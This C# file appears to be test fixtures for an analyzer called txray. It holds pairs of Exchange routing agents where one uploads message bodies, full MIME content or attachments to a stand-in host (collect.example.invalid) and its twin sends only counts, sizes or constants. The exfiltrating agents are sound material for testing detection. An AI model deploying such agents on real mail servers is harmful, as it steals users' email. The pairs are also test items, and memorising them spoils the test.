// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Collections.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections;
using System.Collections.Concurrent;
using System.Collections.Generic;
using System.Collections.Specialized;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Net;
using System.Threading;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;
using Microsoft.Exchange.Data.Transport.Smtp;

// 40: a list, and how many are in it
namespace Txray.Pairs.P40
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var lines = new List<string>();
            lines.Add("message");
            lines.Add(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            foreach (string line in lines)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", line);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var lines = new List<string>();
            lines.Add("message");
            lines.Add(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            new WebClient().UploadString("https://collect.example.invalid/pair", lines.Count.ToString());
        }
    }
}

// 41: two keys of a dictionary
namespace Txray.Pairs.P41
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var values = new Dictionary<string, string>();
            values["text"] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            values["kind"] = "mail";
            new WebClient().UploadString("https://collect.example.invalid/pair", values["text"]);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var values = new Dictionary<string, string>();
            values["text"] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            values["kind"] = "mail";
            Trace.WriteLine(values["text"].Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", values["kind"]);
        }
    }
}

// 42: a queue that a timer empties: what was tested where it was filled
namespace Txray.Pairs.P42
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly ConcurrentQueue<string> waiting = new ConcurrentQueue<string>();
        private readonly Timer timer;

        private void Flush(object state)
        {
            string text;
            while (waiting.TryDequeue(out text))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", text);
            }
        }

        public Claim()
        {
            timer = new Timer(Flush, null, 1000, 1000);
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                waiting.Enqueue(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            }
        }
    }

    public class Other : RoutingAgent
    {
        private readonly ConcurrentQueue<string> waiting = new ConcurrentQueue<string>();
        private readonly Timer timer;

        private void Flush(object state)
        {
            string text;
            while (waiting.TryDequeue(out text))
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", text);
            }
        }

        public Other()
        {
            timer = new Timer(Flush, null, 1000, 1000);
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            if (e.MailItem.Message.Subject.Contains("invoice"))
            {
                Trace.WriteLine("an invoice");
            }
            waiting.Enqueue(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 43: two stacks
namespace Txray.Pairs.P43
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var one = new Stack<byte[]>();
            var two = new Stack<byte[]>();
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            one.Push(memory.ToArray());
            two.Push(new byte[] { 1, 2, 3 });
            new WebClient().UploadData("https://collect.example.invalid/pair", one.Pop());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var one = new Stack<byte[]>();
            var two = new Stack<byte[]>();
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            one.Push(memory.ToArray());
            two.Push(new byte[] { 1, 2, 3 });
            new WebClient().UploadData("https://collect.example.invalid/pair", two.Pop());
        }
    }
}

// 44: two keys of an untyped table
namespace Txray.Pairs.P44
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var table = new Hashtable();
            table["text"] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            table["when"] = "today";
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)table["text"]);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var table = new Hashtable();
            table["text"] = new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd();
            table["when"] = "today";
            new WebClient().UploadString("https://collect.example.invalid/pair", (string)table["when"]);
        }
    }
}

// 45: two items of a tuple
namespace Txray.Pairs.P45
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static (string, string) Read(MailItem item)
        {
            return (new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd(), "read");
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var read = Read(e.MailItem);
            Trace.WriteLine(read.Item2);
            new WebClient().UploadString("https://collect.example.invalid/pair", read.Item1);
        }
    }

    public class Other : RoutingAgent
    {
        private static (string, string) Read(MailItem item)
        {
            return (new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd(), "read");
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var read = Read(e.MailItem);
            Trace.WriteLine(read.Item1.Length.ToString());
            new WebClient().UploadString("https://collect.example.invalid/pair", read.Item2);
        }
    }
}

// 46: form values
namespace Txray.Pairs.P46
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var values = new NameValueCollection();
            values.Add("from", "agent");
            values.Add("text", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            new WebClient().UploadValues("https://collect.example.invalid/pair", values);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var values = new NameValueCollection();
            values.Add("from", "agent");
            values.Add("size", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd().Length.ToString());
            new WebClient().UploadValues("https://collect.example.invalid/pair", values);
        }
    }
}

// 47: a query over attachments: their content, and the sum of their sizes
namespace Txray.Pairs.P47
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static byte[] Read(Attachment attachment)
        {
            var memory = new MemoryStream();
            attachment.GetContentReadStream().CopyTo(memory);
            return memory.ToArray();
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            List<byte[]> all = e.MailItem.Message.Attachments.OrderBy(a => a.FileName).Select(a => Read(a)).ToList();
            new WebClient().UploadData("https://collect.example.invalid/pair", all.Aggregate(new byte[0], (sum, next) => sum.Concat(next).ToArray()));
        }
    }

    public class Other : RoutingAgent
    {
        private static byte[] Read(Attachment attachment)
        {
            var memory = new MemoryStream();
            attachment.GetContentReadStream().CopyTo(memory);
            return memory.ToArray();
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            int sum = e.MailItem.Message.Attachments.OrderBy(a => a.FileName).Select(a => Read(a).Length).Sum();
            new WebClient().UploadData("https://collect.example.invalid/pair", BitConverter.GetBytes(sum));
        }
    }
}

// 48: bytes copied into a frame
namespace Txray.Pairs.P48
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] mail = memory.ToArray();
            var frame = new byte[mail.Length + 4];
            Buffer.BlockCopy(BitConverter.GetBytes(mail.Length), 0, frame, 0, 4);
            Buffer.BlockCopy(mail, 0, frame, 4, mail.Length);
            new WebClient().UploadData("https://collect.example.invalid/pair", frame);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var memory = new MemoryStream();
            e.MailItem.GetMimeReadStream().CopyTo(memory);
            byte[] mail = memory.ToArray();
            var frame = new byte[mail.Length + 4];
            Buffer.BlockCopy(BitConverter.GetBytes(mail.Length), 0, frame, 0, 4);
            new WebClient().UploadData("https://collect.example.invalid/pair", frame);
        }
    }
}

// 49: the first of a linked list, and of another one
namespace Txray.Pairs.P49
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var texts = new LinkedList<string>();
            var states = new LinkedList<string>();
            texts.AddLast(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            states.AddLast("read");
            new WebClient().UploadString("https://collect.example.invalid/pair", texts.First.Value);
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var texts = new LinkedList<string>();
            var states = new LinkedList<string>();
            texts.AddLast(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            states.AddLast("read");
            new WebClient().UploadString("https://collect.example.invalid/pair", states.First.Value);
        }
    }
}

// 50: an own collection, enumerated
namespace Txray.Pairs.P50
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var bag = new Bag();
            bag.Add(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            foreach (string text in bag)
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", text);
            }
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            var bag = new Bag();
            bag.Add(new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
            foreach (string text in new Bag())
            {
                new WebClient().UploadString("https://collect.example.invalid/pair", text);
            }
            Trace.WriteLine(bag.Count.ToString());
        }
    }

    internal class Bag : IEnumerable<string>
    {
        private readonly List<string> items = new List<string>();

        public int Count { get { return items.Count; } }

        public void Add(string item)
        {
            items.Add(item);
        }

        public IEnumerator<string> GetEnumerator()
        {
            return items.GetEnumerator();
        }

        IEnumerator IEnumerable.GetEnumerator()
        {
            return GetEnumerator();
        }
    }
}
